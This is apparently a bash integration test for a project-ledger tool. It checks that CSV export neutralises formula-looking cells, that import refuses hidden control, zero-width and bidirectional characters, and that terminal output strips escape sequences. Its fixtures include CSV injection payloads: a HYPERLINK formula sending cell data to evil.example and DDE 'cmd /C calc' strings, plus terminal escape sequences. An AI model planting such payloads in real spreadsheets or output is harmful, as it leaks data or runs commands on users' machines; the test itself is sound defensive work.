#!/bin/bash
# Bytes that lie, from the people who fill in the spreadsheets: a project
# name that is a formula opens as text in Excel and WPS after export, and
# the export imports back unchanged; a byte order mark in the middle of a
# file (a ghost project that looks like a real one), a control character,
# a zero-width character and a wrong project code are refused naming the
# line and the column, with nothing written; so is a row that lost cells;
# and keyprojctl shows no terminal escape from the data, in any format,
# while a pipe still gets the bytes as they are.
. "$top_srcdir/tests/integration/lib.sh"

create_db
write_config
start_daemon --now 2026-11-25T10:00:00+08:00
wait_ready

head='项目编号,项目名称,年度,级别,县区,领域,类别,建设单位,联系人'
# ---- formulas: export guards them, import takes the guard back ------------------
python3 - "$T_DIR/formulas.csv" <<'PY'
import csv, sys
rows = [
    ["LY-2026-101", '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "=1+1"],
    ["LY-2026-102", "@SUM(1+1)*cmd|' /C calc'!A0", "@x"],
    ["LY-2026-103", "-2+3+cmd|' /C calc'!A0", "-1"],
    ["LY-2026-104", "+86 138 0000 1111 项目", "+1"],
    ["LY-2026-105", "\t=1+1", "\r=1+1"],
    ["LY-2026-106", "'=1+1 already quoted", "'abc"],
]
with open(sys.argv[1], "w", encoding="utf-8", newline="") as f:
    w = csv.writer(f)
    w.writerow("项目编号,项目名称,年度,级别,县区,领域,类别,建设单位,联系人".split(","))
    for code, name, owner in rows:
        w.writerow([code, name, "2026", "市", "涧西区", "产业", "新开工", owner, name])
PY
out=$(kpctl --json import projects "$T_DIR/formulas.csv") || fail "import of formula-looking text: $out"
expect_eq "six projects whose text looks like formulas imported" 6 "$(echo "$out" | field inserted)"
expect_eq "a leading tab is kept, not trimmed into a formula" "$(printf '\t=1+1|\r=1+1')" \
    "$(sql "SELECT name || '|' || owner FROM project WHERE code = 'LY-2026-105'")"
# A ' typed in front of a formula is the sheet's own way to say "text": the
# stored value is the text, which export guards the same way again.
expect_eq "a ' before a formula is the spreadsheet's text mark" "=1+1 already quoted|'abc" \
    "$(sql "SELECT name || '|' || owner FROM project WHERE code = 'LY-2026-106'")"

kpctl export projects > "$T_DIR/export.csv" || fail "export projects"
python3 - "$T_DIR/export.csv" > "$T_DIR/cells" <<'PY'
import csv, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for row in csv.DictReader(f):
        print(row["项目编号"], repr(row["项目名称"]), repr(row["建设单位"]), repr(row["联系人"]))
PY
# Every text cell that a spreadsheet would run starts with ' in the file.
bad=$(python3 - "$T_DIR/export.csv" <<'PY'
import csv, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for n, row in enumerate(csv.reader(f), 1):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                print(n, repr(cell))
PY
)
expect_eq "no exported cell begins as a formula" "" "$bad"
expect_contains "=HYPERLINK opens as text" "LY-2026-101 '\\'=HYPERLINK(" "$(cat "$T_DIR/cells")"
expect_contains "@SUM opens as text" "LY-2026-102 \"'@SUM(1+1)*cmd|' /C calc'!A0\"" "$(cat "$T_DIR/cells")"
expect_contains "-2+3+cmd opens as text" "LY-2026-103 \"'-2+3+cmd|' /C calc'!A0\"" "$(cat "$T_DIR/cells")"
expect_contains "+86 … opens as text" "LY-2026-104 \"'+86 138 0000 1111 项目\" \"'+1\" \"'+86 138 0000 1111 项目\"" \
    "$(cat "$T_DIR/cells")"
expect_contains "a leading tab and CR are guarded" "LY-2026-105 \"'\\t=1+1\" \"'\\r=1+1\"" "$(cat "$T_DIR/cells")"
expect_contains "a ' before plain text is text and stays as it is" "LY-2026-106 \"'=1+1 already quoted\" \"'abc\"" "$(cat "$T_DIR/cells")"
# Numbers and dates are never guarded.
expect_eq "the year column is plain numbers" "" \
    "$(python3 -c 'import csv,sys; [print(r["年度"]) for r in csv.DictReader(open(sys.argv[1], encoding="utf-8-sig", newline="")) if not r["年度"].isdigit()]' "$T_DIR/export.csv")"

before=$(ledger_digest)
out=$(kpctl --json import projects "$T_DIR/export.csv") || fail "re-import of the export: $out"
expect_eq "the export imports back with nothing changed" "0 0" "$(echo "$out" | field inserted) $(echo "$out" | field updated)"
expect_eq "the ledger is as it was after the round trip" "$before" "$(ledger_digest)"

# ---- text that hides, wrong codes, lost cells: refused, nothing written ----------
row='LY-2026-201,正常项目,2026,市,涧西区,产业,新开工,某公司,张三'
refused() {   # refused NAME EXPECTED FILE-CONTENT
    printf '%s' "$3" > "$T_DIR/$1.csv"
    out=$(kpctl import projects "$T_DIR/$1.csv" 2>&1); rc=$?
    expect_eq "$1: refused" 1 "$rc"
    expect_contains "$1: names line and column" "$2" "$out"
    expect_eq "$1: nothing written" "$before" "$(ledger_digest)"
}
refused mid_file_bom "line 3, column 项目编号: character 1 is U+FEFF, a 字节顺序标记 (byte order mark, BOM)" \
    "$(printf '\xef\xbb\xbf%s\n%s\n\xef\xbb\xbf%s\n' "$head" "$row" "2026-410300-04-01-123456,正常项目,2026,市,涧西区,产业,新开工,某公司,张三")"
refused control_character "line 2, column 项目名称: character 3 is U+001B, a 控制字符 (control character)" \
    "$(printf '%s\n%b\n' "$head" 'LY-2026-202,项目\033]0;owned\007甲,2026,市,涧西区,产业,新开工,,')"
refused c1_control "line 2, column 联系人: character 2 is U+009B, a 控制字符 (control character)" \
    "$(printf '%s\n%b\n' "$head" 'LY-2026-203,项目,2026,市,涧西区,产业,新开工,,张\xc2\x9b三')"
refused zero_width "line 3, column 项目名称: character 3 is U+200B, a 零宽字符 (zero-width character)" \
    "$(printf '%s\n%s\n%b\n' "$head" "$row" 'LY-2026-204,正常\xe2\x80\x8b项目,2026,市,涧西区,产业,新开工,,')"
refused bidi_control "line 2, column 建设单位: character 1 is U+202E, a 双向文本控制符 (bidirectional control)" \
    "$(printf '%s\n%b\n' "$head" 'LY-2026-205,项目,2026,市,涧西区,产业,新开工,\xe2\x80\xae司公某,')"
refused wrong_national_code "line 2, column 项目编号: '2026-999999-04-01-123456' is not a national project code: the division 999999" \
    "$(printf '%s\n%s\n' "$head" '2026-999999-04-01-123456,项目,2026,市,涧西区,产业,新开工,,')"
expect_contains "wrong_national_code: the expected shape is named" "like 2026-410300-04-01-123456" "$out"
refused formula_code "line 2, column 项目编号: '=1+1' is not a project code (expected a national code like 2026-410300-04-01-123456" \
    "$(printf '%s\n%s\n' "$head" '=1+1,项目,2026,市,涧西区,产业,新开工,,')"
refused short_row "line 3: 7 fields but the header has 9" \
    "$(printf '%s\n%s\n%s\n' "$head" "$row" 'LY-2026-206,项目,2026,市,涧西区,产业,新开工')"
refused long_row "line 2: 10 fields but the header has 9" \
    "$(printf '%s\n%s\n' "$head" "$row,多余")"

# ---- the ledger's own code format --------------------------------------------------
stop_daemon
write_config 'import = { code_pattern = "^LY-[0-9]{4}-[0-9]{3}$"; };'
start_daemon --now 2026-11-25T10:00:00+08:00
wait_ready
refused own_format "line 2, column 项目编号: 'P-1' is not a project code (expected a national code like 2026-410300-04-01-123456 (year-division-industry-type-serial: 4, 6, 2, 2 and 6 digits), or the ledger's own code matching ^LY-[0-9]{4}-[0-9]{3}\$)" \
    "$(printf '%s\n%s\n' "$head" 'P-1,项目,2026,市,涧西区,产业,新开工,,')"
out=$(kpctl --json import projects "$T_DIR/export.csv") || fail "import under code_pattern: $out"
expect_eq "codes of the ledger's format and national ones pass code_pattern" "0 0" \
    "$(echo "$out" | field inserted) $(echo "$out" | field updated)"

# ---- terminal output ---------------------------------------------------------------
# A name with ESC, OSC and BEL stored by an older keyprojd (or by hand).
sql "UPDATE project SET name = E'项目\\x1b]0;owned\\x07\\x1b[2J甲' || chr(155) WHERE code = 'LY-2026-101'" >/dev/null
raw=$(kpctl --csv projects --county 涧西区 | grep -c $'\x1b]0;owned')
expect_eq "--csv to a pipe keeps the bytes" 1 "$raw"
if command -v script >/dev/null; then
    for fmt in "" --csv --json; do
        script -qec "$KEYPROJCTL -s $T_SOCK $fmt projects --county 涧西区" /dev/null > "$T_DIR/tty.out" 2>&1 < /dev/null
        expect_eq "keyprojctl ${fmt:-(table)} on a terminal shows no raw ESC, BEL or C1" "0 0 0" \
            "$(grep -c $'\x1b]0' "$T_DIR/tty.out") $(grep -c $'\x07' "$T_DIR/tty.out") $(grep -c $'\xc2\x9b' "$T_DIR/tty.out")"
        expect_contains "keyprojctl ${fmt:-(table)} on a terminal shows the escape visibly" "owned" "$(cat "$T_DIR/tty.out")"
    done
    script -qec "$KEYPROJCTL -s $T_SOCK export projects" /dev/null > "$T_DIR/tty.out" 2>&1 < /dev/null
    expect_eq "export on a terminal shows no raw ESC" 0 "$(grep -c $'\x1b]0' "$T_DIR/tty.out")"
else
    echo "# script(1) missing: terminal output not checked here (see test_ctl_render)"
fi
stop_daemon
